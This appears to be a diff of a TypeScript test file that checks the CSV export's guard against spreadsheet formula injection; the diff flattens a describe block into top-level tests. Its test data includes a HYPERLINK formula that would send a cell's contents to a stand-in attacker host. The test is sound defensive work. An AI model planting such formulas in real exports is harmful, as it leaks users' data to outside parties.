@@ -172,98 +172,96 @@ it('the layouts show a plan’s title and the lower end of its estimate', () => 
   expect(readCsv(toExportLine(plan, 'service'))[0]?.at(-1)).toBe('custom_planner');
 });
 
-describe('a cell that a spreadsheet could execute', () => {
-  it.each([
-    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
-    '+919847012345',
-    '-2+3',
-    '@SUM(A1)',
-    '=1+1',
-    '\t=1+1',
-    '\r=1+1',
-    '\tword',
-    ' =1',
-    '  +1',
-    '\u00A0=1',
-    '\uFEFF=1',
-    '\u200B=1',
-    '"=1',
-    "'=1",
-    '“=1',
-    '` =1',
-    '\n=1',
-    '＝1+1',
-    '＋91',
-    '－1',
-    '＠x',
-    '﹦1',
-    '−1',
-  ])('prefixes %j with a quote', (cell) => {
-    expect(neutralise(cell)).toBe(`'${cell}`);
-  });
+it.each([
+  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+  '+919847012345',
+  '-2+3',
+  '@SUM(A1)',
+  '=1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\tword',
+  ' =1',
+  '  +1',
+  '\u00A0=1',
+  '\uFEFF=1',
+  '\u200B=1',
+  '"=1',
+  "'=1",
+  '“=1',
+  '` =1',
+  '\n=1',
+  '＝1+1',
+  '＋91',
+  '－1',
+  '＠x',
+  '﹦1',
+  '−1',
+])('prefixes %j with a quote', (cell) => {
+  expect(neutralise(cell)).toBe(`'${cell}`);
+});
 
-  it.each([
-    'Asha',
-    '98470 12345',
-    'a=b',
-    'x@example.com',
-    '5 - 6 days',
-    'ആശ',
-    '',
-    ' ',
-    '"',
-    '(+91) 98',
-    '₹500',
-    '#1',
-    '1 = 1',
-  ])('leaves %j unchanged', (cell) => {
-    expect(neutralise(cell)).toBe(cell);
-  });
+it.each([
+  'Asha',
+  '98470 12345',
+  'a=b',
+  'x@example.com',
+  '5 - 6 days',
+  'ആശ',
+  '',
+  ' ',
+  '"',
+  '(+91) 98',
+  '₹500',
+  '#1',
+  '1 = 1',
+])('a cell that a spreadsheet could execute leaves %j unchanged', (cell) => {
+  expect(neutralise(cell)).toBe(cell);
+});
 
-  it('prefixes after a semicolon too, the separator in other locales', () => {
-    expect(neutralise('yes,=1+1; =2')).toBe("yes,=1+1;' =2");
-    expect(readCsv(toExportLine(makeRow({ message: 'yes,=cmd' }), 'list'))[0]?.[7]).toBe("yes;'=cmd");
-  });
+it('prefixes after a semicolon too, the separator in other locales', () => {
+  expect(neutralise('yes,=1+1; =2')).toBe("yes,=1+1;' =2");
+  expect(readCsv(toExportLine(makeRow({ message: 'yes,=cmd' }), 'list'))[0]?.[7]).toBe("yes;'=cmd");
+});
 
-  it('never remains, for any text', () => {
-    const tricky = fc.string({
-      unit: fc.constantFrom(
-        '=',
-        '+',
-        '-',
-        '@',
-        '\t',
-        '\r',
-        '\n',
-        ' ',
-        '"',
-        "'",
-        ';',
-        ',',
-        'a',
-        '1',
-        '＝',
-        '\u00A0',
-      ),
-    });
-    fc.assert(
-      fc.property(tricky, fc.constantFrom(...EXPORT_LAYOUTS), (text, layout) => {
-        const row = makeRow({
-          customerName: text,
-          email: text,
-          phone: text,
-          title: text,
-          message: text,
-        });
-        const cells = readCsv(toExportLine(row, layout))[0] ?? [];
-        for (const cell of cells) {
-          const pieces = cell.split(';');
-          for (const piece of pieces) expect(piece).not.toMatch(/^[\s"]*[=+\-@＝]/);
-          expect(cell).not.toMatch(/^[\t\r]/);
-        }
-      }),
-    );
+it('a cell that a spreadsheet could execute never remains, for any text', () => {
+  const tricky = fc.string({
+    unit: fc.constantFrom(
+      '=',
+      '+',
+      '-',
+      '@',
+      '\t',
+      '\r',
+      '\n',
+      ' ',
+      '"',
+      "'",
+      ';',
+      ',',
+      'a',
+      '1',
+      '＝',
+      '\u00A0',
+    ),
   });
+  fc.assert(
+    fc.property(tricky, fc.constantFrom(...EXPORT_LAYOUTS), (text, layout) => {
+      const row = makeRow({
+        customerName: text,
+        email: text,
+        phone: text,
+        title: text,
+        message: text,
+      });
+      const cells = readCsv(toExportLine(row, layout))[0] ?? [];
+      for (const cell of cells) {
+        const pieces = cell.split(';');
+        for (const piece of pieces) expect(piece).not.toMatch(/^[\s"]*[=+\-@＝]/);
+        expect(cell).not.toMatch(/^[\t\r]/);
+      }
+    }),
+  );
 });
 
 it('a line of the export parses back to the cells written, for any content', () => {
